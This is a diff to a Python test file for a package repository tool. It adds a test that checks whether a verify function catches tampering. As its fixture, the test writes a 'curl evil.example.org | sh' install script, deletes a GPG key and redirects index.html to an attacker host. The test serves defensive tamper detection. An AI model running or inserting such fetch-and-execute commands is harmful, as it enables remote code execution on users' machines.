@@ -27,6 +27,7 @@ from pkgrel.repository.settings import Settings
 from pkgrel.repository.store import Kind
 from pkgrel.repository.store.local import Local
 from pkgrel.repository.sync import sync
+from pkgrel.repository.verify import verify
 from tests import chromium, page_text, reference_packages, repositories
 from tests.repositories import URL, again, make, put
 from tests.tiny_packages import package
@@ -294,6 +295,22 @@ def test_anybody_can_make_it_anew(repository: Repository) -> None:
     assert set(names) <= set(sync(again(repository.store)).pointers)
     assert {name: (top / name).read_bytes() for name in names} == before
     assert sync(again(repository.store)).pointers == ()
+
+
+def test_verify_sees_what_somebody_has_put_there(repository: Repository) -> None:
+    assert verify(again(repository.store)).problems == ()
+    top = root(repository)
+    (top / "install.sh").write_text("curl evil.example.org | sh\n")
+    (top / "acme.gpg").unlink()
+    (top / "index.html").write_text(html(top).replace(URL, "http://evil.example.org"))
+    found = verify(again(repository.store)).problems
+    for name in ("install.sh", "acme.gpg", "index.html"):
+        assert any(problem.startswith(f"{name}: ") for problem in found)
+    sync(again(repository.store))
+    assert verify(again(repository.store)).problems == ()
+    shutil.rmtree(top / page.SUMMARIES)
+    assert verify(again(repository.store)).problems == ()
+    assert not (top / page.SUMMARIES).exists()
 
 
 def test_an_old_state_is_not_written_over_a_newer(repository: Repository) -> None:
